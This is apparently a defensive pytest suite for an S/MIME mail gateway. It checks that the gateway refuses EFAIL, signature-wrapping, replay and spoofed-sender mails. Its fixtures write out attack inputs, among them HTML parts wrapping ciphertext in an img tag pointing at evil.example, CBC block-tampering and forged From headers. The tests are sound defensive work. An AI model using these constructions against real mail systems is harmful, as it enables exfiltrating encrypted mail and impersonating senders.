"""S/MIME mails that may not be opened, believed or answered: each gets its number, the log its cause, nothing stays.

EFAIL and *Johnny, you are fired* in S/MIME, at the whole gateway; the engine's own promises are in tests/contract.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime

import pytest

from gateway.correspondence import Correspondent
from gateway.facts import Envelope
from gateway.mime.tree import parse
from gateway.outcome import Cause, Taken
from tests.hostile import hostile
from tests.hostile.hostile import CLEAR, HELP, OFFICER, Tried, multipart, refused, text
from tests.support.focalpoint import DOMAIN, SE_UIM, FocalPoint, focal_point, request
from tests.support.smime import Authority, SmimePerson, cms_part

Log = pytest.LogCaptureFixture
NAMES = ("officer", "colleague", "stranger")


@pytest.fixture(scope="module")
def certified() -> Iterator[dict[str, SmimePerson]]:
    """People with certificates of one authority; the stranger's names the officer's address."""
    authority = Authority()
    made = {name: SmimePerson(f"{name}@party.example", name, authority) for name in NAMES}
    made["stranger"] = SmimePerson("officer@party.example", "officer", authority)
    yield made
    for person in made.values():
        person.close()


@pytest.fixture(scope="module")
def gate(people: dict[str, Correspondent], certified: dict[str, SmimePerson]) -> Iterator[FocalPoint]:
    everybody = people | {name: certified[name] for name in ("officer", "colleague")}
    with focal_point(everybody) as made:
        yield made


@pytest.fixture
def who(gate: FocalPoint, certified: dict[str, SmimePerson]) -> Callable[[str], SmimePerson]:
    for person in certified.values():
        person.knows(gate.gateway.own_certificate())
    return lambda name: certified[name]


Who = Callable[[str], SmimePerson]


def sent(der: bytes, from_: str = OFFICER) -> bytes:
    """An encrypted object as a mail of somebody's, or under his name."""
    return CLEAR.replace(OFFICER.encode(), from_.encode()) + cms_part(der, "enveloped-data")


# --- from outside ---------------------------------------------------------------------------------------


def signed_only_detached(who: Who) -> bytes:
    return CLEAR + who("officer").sign(HELP)


def signed_only_opaque(who: Who) -> bytes:
    return CLEAR + who("officer").sign(HELP, style="opaque")


def clear_text_beside(who: Who) -> bytes:
    return CLEAR + multipart("mixed", text("Please read this."), cms_part(who("officer").seal(HELP), "enveloped-data"))


def efail_direct_exfiltration(who: Who) -> bytes:
    """The encrypted part between two parts of HTML that would send it to the attacker."""
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n'
    after = b'Content-Type: text/html\r\n\r\n">\r\n'
    return CLEAR + multipart("mixed", before, cms_part(who("officer").seal(HELP), "enveloped-data"), after)


def clear_text_beside_inside_a_signature(who: Who) -> bytes:
    whole = clear_text_beside(who)
    return CLEAR + who("stranger").sign(whole[whole.index(b"Content-Type: multipart") :])


def to_somebody_else(who: Who) -> bytes:
    return sent(who("officer").encrypt(HELP, to="own.pem"))


def triple_des(who: Who) -> bytes:
    return sent(who("officer").seal(HELP, "-des3"))


def cut(who: Who) -> bytes:
    return sent(who("officer").seal(HELP)[:-5])


def octets_below(who: Who) -> bytes:
    return sent(who("officer").seal(HELP) + b"GSP HELP")


@pytest.mark.parametrize(
    ("make", "number"),
    [
        (signed_only_detached, 101), (signed_only_opaque, 101), (clear_text_beside, 102),
        (efail_direct_exfiltration, 102), (clear_text_beside_inside_a_signature, 102), (to_somebody_else, 103),
        (triple_des, 104), (cut, 105), (octets_below, 105),
    ],
    ids=lambda value: getattr(value, "__name__", str(value)),
)  # fmt: skip
def test_what_is_not_one_encrypted_object_is_refused_unopened(
    gate: FocalPoint, who: Who, caplog: Log, make: Callable[[Who], bytes], number: int
) -> None:
    assert refused(gate, make(who), caplog) == Tried(number, "none")


# --- who wrote it ---------------------------------------------------------------------------------------


def unsigned(who: Who) -> bytes:
    return sent(who("stranger").encrypt(HELP))


def a_certificate_that_only_names_the_address(who: Who) -> bytes:
    """The authority of the officer's certificate issued this one too, in his name: it is not the pinned one."""
    return sent(who("stranger").seal(HELP))


def a_colleagues_signature_under_another_name(who: Who) -> bytes:
    return sent(who("colleague").seal(HELP))


def captured_and_sent_again_by_a_colleague(who: Who) -> bytes:
    return sent(who("officer").seal(HELP), "colleague <colleague@party.example>")


def captured_and_signed_around(who: Who) -> bytes:
    """A1 in S/MIME: the officer's ciphertext, with the colleague's signature outside, as the colleague's mail."""
    around = who("colleague").sign(cms_part(who("officer").seal(HELP), "enveloped-data"))
    return CLEAR.replace(OFFICER.encode(), b"colleague <colleague@party.example>") + around


def encrypted_then_signed(who: Who) -> bytes:
    """Whoever takes the outer signature off, and puts his there, would be answered about another's text."""
    return CLEAR + who("officer").sign(cms_part(who("officer").encrypt(HELP), "enveloped-data"))


def partly_signed(who: Who) -> bytes:
    return sent(who("stranger").encrypt(multipart("mixed", text("Send it to me."), who("officer").sign(HELP))))


def another_text_than_the_signed_one(who: Who) -> bytes:
    signed = who("officer").sign(HELP)
    return sent(who("stranger").encrypt(signed.replace(b"GSP HELP", b"GSP STATUS")))


def content_inside_the_signature(who: Who) -> bytes:
    """Johnny C1: the signature part brings its own content, the visible part is the attacker's."""
    opaque = parse(who("officer").sign(HELP, style="opaque")).body
    beside = cms_part(opaque, "x").replace(b"application/pkcs7-mime; smime-type=x", b"application/pkcs7-signature")
    both = multipart("signed", text("GSP STATUS\n"), beside)
    return sent(who("stranger").encrypt(both))


def addressed_to_a_colleague(who: Who) -> bytes:
    """A2: signed for a colleague, who encrypts it again to the gateway."""
    fields = (f"From: {OFFICER}", "To: colleague <colleague@party.example>", "Subject: help")
    entity = text("GSP HELP\n", *fields, parameters='; protected-headers="v1"')
    return sent(who("colleague").encrypt(who("officer").sign(entity)))


def encrypted_twice(who: Who) -> bytes:
    return sent(who("officer").seal(cms_part(who("officer").seal(HELP), "enveloped-data")))


def weak_digest(who: Who) -> bytes:
    return sent(who("officer").encrypt(who("officer").sign(HELP, "-md", "sha1")))


@pytest.mark.parametrize(
    ("make", "cause"),
    [
        (unsigned, Cause.NOT_SIGNED),
        (a_certificate_that_only_names_the_address, Cause.UNKNOWN_KEY),
        (a_colleagues_signature_under_another_name, Cause.UNKNOWN_KEY),
        (captured_and_sent_again_by_a_colleague, Cause.UNKNOWN_KEY),
        (captured_and_signed_around, Cause.UNKNOWN_KEY),
        (encrypted_then_signed, Cause.NOT_SIGNED),
        (partly_signed, Cause.PARTLY_SIGNED),
        (another_text_than_the_signed_one, Cause.BAD_SIGNATURE),
        (content_inside_the_signature, Cause.BAD_SIGNATURE),
        (addressed_to_a_colleague, Cause.NOT_FOR_US),
        (encrypted_twice, Cause.NESTING),
        (weak_digest, Cause.WEAK_ALGORITHM),
    ],
    ids=lambda value: getattr(value, "__name__", str(value)),
)
def test_only_the_registered_certificate_of_the_from_address_over_the_whole_is_believed(
    gate: FocalPoint, who: Who, caplog: Log, make: Callable[[Who], bytes], cause: Cause
) -> None:
    assert refused(gate, make(who), caplog) == Tried(201, cause.value)


@pytest.mark.parametrize(
    "from_", ["two", "officer@party.example <eve@evil.example>", "Officers: officer@party.example;"]
)
def test_a_from_field_that_programs_read_differently_is_refused(
    gate: FocalPoint, who: Who, caplog: Log, from_: str
) -> None:
    der = who("officer").seal(HELP)
    raw = b"From: eve@evil.example\r\n" + sent(der) if from_ == "two" else sent(der, from_)
    assert refused(gate, raw, caplog) == Tried(201, Cause.FROM_UNCLEAR.value)


def test_efail_changed_blocks_are_refused_and_nothing_of_them_is_read(gate: FocalPoint, who: Who, caplog: Log) -> None:
    """The CBC gadget: known first blocks are rewritten into markup of the attacker's; nothing decrypted is believed."""
    der = who("officer").seal(text("GSP HELP\n" + "x" * 400), "-aes256")
    length = len(der)
    for place in range(length - 900, length - 40, 97):
        changed = bytearray(der)
        changed[place : place + 16] = bytes(octet ^ 0x41 for octet in der[place : place + 16])
        assert refused(gate, sent(bytes(changed)), caplog).number == 201


def test_a_signed_part_in_a_new_encryption_is_a_replay(
    people: dict[str, Correspondent], certified: dict[str, SmimePerson], caplog: Log
) -> None:
    with focal_point(people | {"officer": certified["officer"], "colleague": certified["colleague"]}) as gate:
        for style in ("detached", "opaque"):
            signed = certified["officer"].sign(text(request(SE_UIM, case=style)), style=style)
            assert gate.gateway.process_file(sent(certified["officer"].encrypt(signed)))["outcome"] == "taken"
            again = sent(certified["colleague"].encrypt(signed, "-aes128"))
            assert refused(gate, again, caplog) == Tried(201, Cause.REPLAY.value)


def test_the_same_mail_in_another_envelope_gets_the_same_answer_and_does_nothing(
    people: dict[str, Correspondent], certified: dict[str, SmimePerson]
) -> None:
    with focal_point(people | {"officer": certified["officer"]}) as gate:
        raw = gate.mail("officer", request(SE_UIM))
        first = gate.gateway.process(raw, Envelope("officer@party.example", (hostile.TO,), transport="smtp"))
        assert isinstance(first, Taken)
        before = hostile.traces(gate)
        again = gate.gateway.process(
            b"Received: from eve\r\n" + raw, Envelope("eve@evil.example", (f"request@{DOMAIN}",))
        )
        assert isinstance(again, Taken)
        assert (again.exchange, again.referrals) == (first.exchange, first.referrals)
        assert hostile.traces(gate) == before


def test_one_refusal_for_everything_after_decryption(gate: FocalPoint, who: Who, caplog: Log) -> None:
    """Whoever does not sign well learns nothing of what was decrypted, not even whether it could be."""
    der = who("stranger").encrypt(HELP)
    broken = bytearray(der)
    broken[-20] ^= 1
    for raw in (sent(der), sent(bytes(broken)), sent(who("stranger").seal(HELP)), partly_signed(who)):
        assert refused(gate, raw, caplog).number == 201


def test_no_bare_line_end_leaves_the_gateway(gate: FocalPoint, who: Who) -> None:
    body = request(SE_UIM, case="C\r.\rD", justification="one\rtwo\n.\nthree")
    entity = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + body.encode()
    raw = who("officer").wrap(who("officer").seal(entity, style="opaque"), hostile.TO, datetime.now(UTC))
    assert gate.gateway.process_file(raw)["outcome"] == "taken"
    mails = dict(gate.gateway.take_outbox())
    assert "officer@party.example" in mails
    for octets in mails.values():
        assert not re.search(rb"\r(?!\n)|(?<!\r)\n", octets)
